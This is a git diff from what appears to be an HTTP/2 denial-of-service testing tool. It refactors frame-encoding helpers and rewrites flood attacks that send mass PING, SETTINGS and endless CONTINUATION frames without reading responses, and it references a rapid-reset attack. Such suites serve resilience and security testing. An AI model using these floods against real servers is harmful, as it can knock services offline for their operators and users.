@@ -4,6 +4,7 @@ import http2 from 'node:http2';
 import { setTimeout as sleep } from 'node:timers/promises';
 import tls from 'node:tls';
 import { type Attack, CONFIG_MAPS, type Victim, configMap, connect, describe, exchangeBytes, openSession, send } from './attack.ts';
+import { encodeFrame, http2Preface } from './http2-frame.ts';
 
 const statusOf = (text: string): number => Number(/^HTTP\/1\.[01] (\d+)/.exec(text)?.[1] ?? 0);
 
@@ -117,18 +118,6 @@ const rapidReset: Attack = {
   },
 };
 
-const HTTP2_PREFACE = Buffer.from('PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n\0\0\0\x04\0\0\0\0\0', 'latin1');
-
-/** One HTTP/2 frame. */
-function frame(type: number, flags: number, { stream = 0, payload = Buffer.alloc(0) }: { readonly stream?: number; readonly payload?: Buffer }): Buffer {
-  const head = Buffer.alloc(9);
-  head.writeUIntBE(payload.length, 0, 3);
-  head[3] = type;
-  head[4] = flags;
-  head.writeUInt32BE(stream, 5);
-  return Buffer.concat([head, payload]);
-}
-
 /** Frames that cost the server an answer or memory each, sent without reading; the memory stays bounded. */
 function frameFlood(name: string, frames: Buffer): Attack {
   return {
@@ -141,7 +130,7 @@ function frameFlood(name: string, frames: Buffer): Attack {
         closed = true;
       });
       socket.pause();
-      socket.write(HTTP2_PREFACE);
+      socket.write(Buffer.concat([http2Preface, encodeFrame(4, 0)]));
       for (let round = 0; round < 40 && !closed; round++) {
         socket.write(frames);
         await sleep(10);
@@ -157,10 +146,10 @@ function frameFlood(name: string, frames: Buffer): Attack {
 const repeatFrame = (one: Buffer, count: number): Buffer => Buffer.concat(Array.from({ length: count }, () => one));
 
 const floods: readonly Attack[] = [
-  frameFlood('80,000 PINGs', repeatFrame(frame(6, 0, { payload: Buffer.alloc(8) }), 2000)),
-  frameFlood('80,000 SETTINGS', repeatFrame(frame(4, 0, {}), 2000)),
-  frameFlood('endless CONTINUATION', Buffer.concat([frame(1, 1, { stream: 1, payload: Buffer.from([0x82]) }),
-    repeatFrame(frame(9, 0, { stream: 1, payload: Buffer.concat([Buffer.from([0x00, 0x7f, 0x81, 0x3f]), Buffer.alloc(16_000, 0x61)]) }), 10)])),
+  frameFlood('80,000 PINGs', repeatFrame(encodeFrame(6, 0, { payload: Buffer.alloc(8) }), 2000)),
+  frameFlood('80,000 SETTINGS', repeatFrame(encodeFrame(4, 0), 2000)),
+  frameFlood('endless CONTINUATION', Buffer.concat([encodeFrame(1, 1, { stream: 1, payload: Buffer.from([0x82]) }),
+    repeatFrame(encodeFrame(9, 0, { stream: 1, payload: Buffer.concat([Buffer.from([0x00, 0x7f, 0x81, 0x3f]), Buffer.alloc(16_000, 0x61)]) }), 10)])),
 ];
 
 /** Headers that come one a second. */
